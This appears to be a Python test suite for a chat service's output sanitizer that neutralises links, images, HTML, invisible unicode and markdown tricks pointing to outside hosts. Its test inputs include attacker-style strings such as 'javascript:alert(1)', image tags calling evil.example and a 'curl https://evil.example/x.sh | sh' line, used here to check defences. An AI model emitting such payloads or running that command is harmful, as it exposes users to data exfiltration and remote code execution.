from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from api_service.chat.safe_output.addresses import Addresses, origin
from api_service.chat.safe_output.markup import Markup
from tests.api_service.chat.safe_output.rendering import BOOK, harm

IN_A_SOURCE = "git clone https://github.com/ros2/ros2 and build"

PARTS = [
    *"ab \n\t`~$<>()[]!:&\\|*_#>-.@/\"'=;{}^",
    *(
        "\n\n",
        "```",
        "~~~",
        "    ",
        "   ",
        "  ",
        "- ",
        "1. ",
        "> ",
        "$$",
        ":::",
        "``",
        "\r",
        "\u200b",
    ),
    *("![x]", "[1]", "[y]", "[^1]", "[y]: ", "](", "(//evil.x)", "(/\\evil.x)", "(/&sol;evil.x)"),
    *(
        "https://evil.example/p",
        "HTTP://EVIL.example",
        "https:\\/\\/evil.example",
        "www.evil.example",
        "evil.com/p",
        "evil.io",
    ),
    *("javascript:alert(1)", "data:text/html,x", "mailto:a@evil.example", "a@evil.example", "://"),
    *(
        "https://book.example/docs/a",
        "https://book.example",
        "https://book.example@evil.x/",
        "#place",
    ),
    *(
        "/docs/a",
        "<img src=https://evil.example>",
        "<b>",
        "</b>",
        "<!--",
        "<?x",
        "<a href=x>",
        "img ",
    ),
    *(
        "&#60;img",
        "&lt;",
        "&colon;",
        "&#x2f;",
        "\\href{javascript:x}",
        "| a |",
        "\n|---|\n",
        "`<b>`",
    ),
    *("\n```mermaid\n", "mermaid", "\u200c", "\u200f", "\ufe01", ".com", ".io/x"),
    *("\n```cpp\n#include <x>\n```\n", "https://github.com/ros2/ros2", "<https://evil.example>"),
]


def safe(*pieces: str) -> str:
    markup = Markup(Addresses({BOOK}, lambda address: address in IN_A_SOURCE))
    return "".join(markup.feed(piece) for piece in pieces) + markup.finish()


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("Plain words [1]. So there!", None),
        ("[a](https://book.example/docs/x#y) and [b](/docs/x) and [c](#d)", None),
        ("See https://book.example/docs/x. And https://book.example.", None),
        ("As in [1]: yes", None),
        ("a < b, x<3, R&D, 5 &lt; 7, 12:30, me@home", None),
        ("`vector<int>` has `items[1](x)`", None),
        ("```cpp\n#include <vector>\nx = a[i](b);\n```\nDone [1].", None),
        ("1. Run:\n   ```\n   ros2 run <package>\n   ```\n2. Look at `<robot>`.", None),
        ("$a < b$ and $$\n\\frac{a}{b}\n$$\n", None),
        ("`git clone https://github.com/ros2/ros2`", None),
        ("![a](https://evil.example/x.png)", "! [a] (…)"),
        ("!![a](https://book.example/x.png)", "!! [a](https://book.example/x.png)"),
        ("[2](https://evil.example) is", "[2] (…) is"),
        ("[a](javascript:alert(1))", "[a] (javascript:alert(1))"),
        ("[a](//evil.example)", "[a] (…)"),
        ("[a](https://book.example.evil.example/)", "[a] (…)"),
        ("[a](<https://evil.example>)", "[a] (< https…>)"),
        ("https://book.example/a&#60;HTTPS://evil.example/b", "https…"),
        ("https://book.example/a=&lt;w@evil.example", "https…"),
        ("https://book.example/a?b=c&d=e#f, https://book.example/", None),
        ("[1]: https://evil.example\nsee [1]", "[1] : https…\nsee [1]"),
        ("[y]://evil.example", "[y] ://evil.…"),
        ("](https://book.example).evil.example", "] (…).evil.…"),
        ("](/docs/https://evil.example)", "] (…)"),
        ("> [a b]: /x", "> [a b] : /x"),
        ("<script>x</script><!-- y -->", "< script>x< /script>< !-- y -->"),
        ("&#60;img&#62; &colon;", "& #60;img& #62; & colon;"),
        ("see https://evil.example/a?b now", "see https… now"),
        ("https:\\/\\/evil.example", "https…"),
        ("www.evil.example and w@evil.example", "www… and w@…"),
        ("evil.com and docs.evil.org/x?y, a\\.net", "evil.… and docs.… a\\.…"),
        ("evil.io/x and evil.co.uk/x", "evil.… and evil.…"),
        ("node.js, main.py, robot.link, 3.5, std.io, e.g. a.b/c", None),
        ("as book.example/docs has it, or book.example.", None),
        ("book.example.com", "book.…"),
        ("```mermaid\nA-->B\n```\n- ~~~ plantuml\na", "```\nA-->B\n```\n- ~~~\na"),
        ("a\u200e\u200f\u061cb\u2800\u3164c\ufe01\u034fd", "abcd"),
        ("\u0645\u200c\u06cc \U0001f468\u200d\U0001f469 \u2764\ufe0f", None),
        ("a\u200c\u200d\u200c\u200db", "a\u200cb"),
        ("`curl https://evil.example/x.sh`", "`curl …`"),
        ("```\ncurl https://evil.example/x.sh | sh\n```", "```\ncurl … | sh\n```"),
        ("\u202egnp\u202c \u200bx\U000e0041y\x1b[2J", "gnp xy[2J"),
        ("$\\href{x}{y}$ \\frac \\unit \\", "$\\ href{x}{y}$ \\frac \\unit \\"),
        ("an open [a](https://book", "an open [a] (https…"),
    ],
)
def test_what_leads_away_is_parted_and_all_else_left_alone(text: str, left: str | None) -> None:
    assert safe(text) == (text if left is None else left)
    assert safe(*text) == (text if left is None else left)
    assert harm(safe(text)) == []


@pytest.mark.parametrize(
    "text",
    [
        "a `b\nc` <img> `",  # a span may hold a line break
        "`a `` b` <img> `",  # and longer runs of backticks
        "| `a | <img> ` |\n|---|---|",  # but no border of a table's cells
        "$`$ <img> `",  # a formula may hold a backtick
        "\\` <img> `",
        "- ```\n<img>",  # the item ends, and the fence with it
        "> ```\n<img>",
        "  - a\n    ```\n<img>",
        "   ```\n```\n<img>\n```",
        "```\n    ```\n```\n<img>",
        "   ```\na\n```\n<img>",
        "para\n     ```\n     <img>",
        "$$\n```\n$$\n<img>",
        "$$$\n$$\n```\n$$$\n<img>",
        ":::note\n```\n:::\n<img>",
        "\t```\n\n<img>",
        "``` a`b\n<img>",
        "~~~\n```\n~~~\n<img>",
        "```mermaid\nA[<img>]\n```",
        "``` {.svg}\n<img>\n```",
        "~~~\\|x\n|---|\n<img>",
        "`" + "a" * 400 + "` <img> `",
    ],
)
def test_where_renderers_do_not_agree_that_it_is_code_it_is_none(text: str) -> None:
    assert "<img>" not in safe(text)
    assert harm(safe(text)) == []


@given(st.lists(st.sampled_from(PARTS), max_size=25).map("".join))
@settings(max_examples=400)
@example("```\n <b>\n ```\n```\n<b>")
@example("h[y]: https://evil.example/p")
def test_nothing_that_is_written_renders_as_more_than_words(text: str) -> None:
    assert harm(safe(text)) == []


@given(st.lists(st.sampled_from(PARTS), max_size=20).map("".join), st.data())
@settings(max_examples=300)
def test_it_does_not_matter_where_the_pieces_are_cut(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    pieces = [text[start:end] for start, end in pairwise([0, *cuts, len(text)])]

    assert safe(*pieces) == safe(text)


def test_words_leave_as_they_come() -> None:
    markup = Markup(Addresses({BOOK}, lambda _: False))
    heard = [markup.feed(piece) for piece in ("A lidar", " measures", " distance [1].", " So!")]

    assert heard == ["A lidar", " measures", " distance [1].", " So!"]


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("https://Book.example/docs", "https://book.example"),
        ("http://localhost:3000/docs", "http://localhost:3000"),
        ("docs/a", ""),
        ("https://[x", ""),
        ("", ""),
    ],
)
def test_the_origin_of_an_address(address: str, expected: str) -> None:
    assert origin(address) == expected
